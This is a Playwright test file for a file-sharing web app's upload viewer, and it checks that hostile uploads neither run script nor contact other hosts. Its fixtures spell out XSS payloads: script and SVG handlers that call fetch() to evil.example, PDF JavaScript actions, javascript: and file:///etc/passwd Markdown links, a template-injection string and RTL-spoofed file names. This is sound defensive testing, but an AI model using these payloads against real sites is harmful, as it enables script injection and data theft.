import { Encrypter } from 'age-encryption';
import type { Frame, Page } from 'playwright-core';
import { Receivers } from '../support/received.js';
import { pdfThat } from '../support/samples.js';
import { TestServer } from '../support/server.js';
import { eventually } from '../support/wait.js';
import { WebPages } from '../support/web-page.js';

/**
 * What strangers have uploaded, looked at. Whatever of it ran or asked another host would be a fault of the page, which
 * `settle` finds: it complains on the console, and asks elsewhere.
 */
let server: TestServer;
let pages: WebPages;
let receivers: Receivers;
beforeAll(async () => {
  [server, pages] = await Promise.all([TestServer.start(), WebPages.start()]);
  receivers = new Receivers(server, pages);
});
afterEach(() => pages.settle());
afterAll(() => Promise.all([server.stop(), pages.stop()]));

const EVIL = 'https://evil.example';
const SCRIPT = `console.error('ran'); window.ran = true; top.ran = true; fetch('${EVIL}/fetched');`;
const HTML = `<!doctype html><body onload="${SCRIPT}"><script>${SCRIPT}</script>
  <script src="${EVIL}/a.js"></script><img src="${EVIL}/a.png"><iframe src="${EVIL}/"></iframe>
  <meta http-equiv="refresh" content="0;url=${EVIL}/left"><p>a page</p></body>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  width="40" height="30" onload="${SCRIPT}"><style>@import url(${EVIL}/a.css);</style>
  <script>${SCRIPT}</script><script xlink:href="${EVIL}/a.js"/><image href="${EVIL}/a.png" width="9" height="9"/>
  <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:top.ran=1"/>
  </foreignObject><rect width="40" height="30" fill="red"/></svg>`;
const PLAYLIST = `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${EVIL}/a.ts\n#EXT-X-ENDLIST\n`;
const JS_PDF = pdfThat(
  `/OpenAction << /S /JavaScript /JS (top.ran = true; this.submitForm\\('${EVIL}/form'\\);) >>`,
);
const LEAVING_PDF = pdfThat(`/OpenAction << /S /URI /URI (${EVIL}/opened) >>`);
const MARKDOWN = `# Hello
<script>${SCRIPT}</script>
<img src="${EVIL}/a.png" onerror="${SCRIPT}">
<iframe src="${EVIL}/"></iframe>

![picture](${EVIL}/b.png) ![script](javascript:top.ran=1) ![data](data:image/svg+xml,x)

[one](javascript:top.ran=1) [two](JAVASCRIPT&colon;top.ran=1) [three](data:text/html,x) [four](vbscript:x)
[five](//evil.example/x) [six](#/login) [seven](blob:${EVIL}/x) [eight][ref] [nine](file:///etc/passwd)
<javascript:top.ran=1> <${EVIL}/auto> ${EVIL}/bare [ten](${EVIL}/x "&quot; onmouseover=&quot;top.ran=1")
[eleven](java&#115;cript:top.ran=1) [twelve](java\\
script:top.ran=1) &toString; &#x202e;

[ref]: javascript:top.ran=1
`;

/** What the frame says; asked again when it went from an empty page to its own while it was asked. */
async function ranIn(frame: Frame): Promise<unknown> {
  for (;;) {
    try {
      return await frame.evaluate('window.ran');
    } catch (error) {
      if (!String(error).includes('Execution context was destroyed')) throw error;
    }
  }
}

/** In no frame, and with nothing of another origin in any. */
async function expectNothingRan(page: Page): Promise<void> {
  for (const frame of page.frames()) {
    expect(await ranIn(frame)).toBeUndefined();
    expect(frame.url()).not.toContain('evil');
  }
  expect(page.url()).toContain(server.url);
}

const encrypt = async (content: string): Promise<Uint8Array<ArrayBuffer>> => {
  const encrypter = new Encrypter();
  encrypter.setPassphrase('secret');
  encrypter.setScryptWorkFactor(10);
  return new Uint8Array(await encrypter.encrypt(new TextEncoder().encode(content)));
};

interface Sent {
  readonly name: string;
  readonly content: string;
}

/** The page of an upload whose types the server has found, or, where it is encrypted, only names can tell. */
async function openFiles(files: readonly Sent[], isEncrypted: boolean): Promise<Page> {
  const sent = await Promise.all(
    files.map(async ({ name, content }) => ({
      name,
      content: isEncrypted ? await encrypt(content) : content,
      type: name.endsWith('.pdf') ? 'application/pdf' : 'image/png',
    })),
  );
  const upload = await receivers.plik.send(sent, isEncrypted ? { e2ee: 'age' } : {});
  const link = receivers.plik.pageUrl(upload);
  const page = await receivers.open(isEncrypted ? `${link}&key=secret` : link);
  await page.getByRole('heading', { name: `${files.length} files` }).waitFor();
  return page;
}

/** What a look at a file has come to: it is drawn, it is read, or it is said that nothing can be seen of it. */
async function look(page: Page, name: string): Promise<void> {
  await page.getByRole('button', { name: `Show ${name}` }).click();
  const shown = `(() => {
    const dialog = document.querySelector('[role="dialog"]');
    const image = dialog?.querySelector('img');
    return image?.complete === true || dialog?.querySelector('iframe, pre, .markdown h3, [role="alert"]') != null;
  })()`;
  await eventually(async () => (await page.evaluate(shown)) === true, `${name} to be seen`);
}

async function close(page: Page): Promise<void> {
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
  await page.getByRole('dialog').waitFor({ state: 'detached' });
}

describe.each([false, true])('files that mean harm (encrypted: %s)', (isEncrypted) => {
  it('run nothing, and ask nobody, whatever they say that they are', async () => {
    const files = [
      { name: 'page.html', content: HTML },
      { name: 'page.png', content: HTML },
      { name: 'page.txt', content: HTML },
      { name: 'drawing.svg', content: SVG },
      { name: 'drawing.png', content: SVG },
      { name: 'page.xml', content: SVG },
      { name: 'film.mp4', content: HTML },
      { name: 'list.mp4', content: PLAYLIST },
      { name: 'marked.mp3', content: `\ufeff${PLAYLIST}` },
      { name: 'song.mp3', content: HTML },
      { name: 'notes.md', content: MARKDOWN },
      { name: 'code.js', content: SCRIPT },
    ];
    const page = await openFiles(files, isEncrypted);
    for (const { name } of files) {
      await look(page, name);
      await expectNothingRan(page);
      await close(page);
    }
  });

  it('are shown as documents by a viewer only, under a type of ours', async () => {
    const files = [
      { name: 'page.pdf', content: HTML },
      { name: 'drawing.pdf', content: SVG },
      { name: 'script.pdf', content: JS_PDF },
      { name: 'leaving.pdf', content: LEAVING_PDF },
      { name: 'both.pdf', content: `%PDF-1.4\n${HTML}` },
    ];
    const page = await openFiles(files, isEncrypted);
    for (const { name } of files) {
      const show = page.getByRole('button', { name: `Show ${name}` });
      // Without a viewer there is nothing to be seen.
      if ((await show.count()) === 0) continue;
      await look(page, name);
      for (const frame of await page.locator('[role="dialog"] iframe').all()) {
        const src = await frame.getAttribute('src');
        expect(src).toMatch(/^blob:/);
        const type = `fetch(${JSON.stringify(src)}).then(({ headers }) => headers.get('Content-Type'))`;
        expect(await page.evaluate(type)).toBe('application/pdf');
      }
      await expectNothingRan(page);
      await close(page);
    }
    await expectNothingRan(page);
  });
});

describe('words of a stranger', () => {
  const expectHarmless = async (page: Page): Promise<void> => {
    const links = page.locator('.markdown a');
    await links.first().waitFor();
    for (const link of await links.all()) {
      expect(await link.getAttribute('href')).toMatch(/^https:\/\/evil\.example\//);
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      expect(await link.getAttribute('target')).toBe('_blank');
      expect(await link.getAttribute('onmouseover')).toBeNull();
    }
    expect(await links.count()).toBe(4);
    const markup =
      '.markdown :is(script, img, iframe, style, object, embed, form, svg, base, meta)';
    expect(await page.locator(markup).count()).toBe(0);
    await page.getByText('&toString;').waitFor();
    await expectNothingRan(page);
  };

  it('that keep a parser busy stop nothing: they are shown as they were written', async () => {
    const comments = `${'_a'.repeat(16_000)} end`;
    const upload = await receivers.plik.send([{ name: 'a.bin', content: 'a' }], { comments });
    const page = await receivers.open(receivers.plik.pageUrl(upload));
    await page.getByText('_a_a_a').waitFor();
    await page.getByRole('button', { name: 'More about a.bin' }).click();
    await page.getByRole('menu').waitFor();
  });

  it('in a comment are words, and links to the web', async () => {
    const upload = await receivers.plik.send([{ name: 'a.bin', content: 'a' }], {
      comments: MARKDOWN,
    });
    const page = await receivers.open(receivers.plik.pageUrl(upload));
    await expectHarmless(page);
  });

  it('in a file of Markdown are the same', async () => {
    const files = [
      { name: 'notes.md', content: MARKDOWN },
      { name: 'b.bin', content: 'b' },
    ];
    const page = await openFiles(files, false);
    await look(page, 'notes.md');
    await expectHarmless(page);
  });

  it('in names are shown as they are, and turn nothing around', async () => {
    const names = [
      `"><img src=x onerror="top.ran=1">.txt`,
      `{{ constructor.constructor("top.ran=1")() }}.txt`,
      'invoice\u202egpj.exe',
      '\u2067left\u2069.txt',
    ];
    const page = await openFiles(
      names.map((name) => ({ name, content: 'a text' })),
      false,
    );
    for (const shown of [names[1]!, 'invoice�gpj.exe', '�left�.txt']) {
      await page.getByText(shown, { exact: true }).first().waitFor();
    }
    expect(
      await page.evaluate(`/[\\u202a-\\u202e\\u2066-\\u2069]/.test(document.body.innerText)`),
    ).toBe(false);
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    await expectNothingRan(page);
  });
});
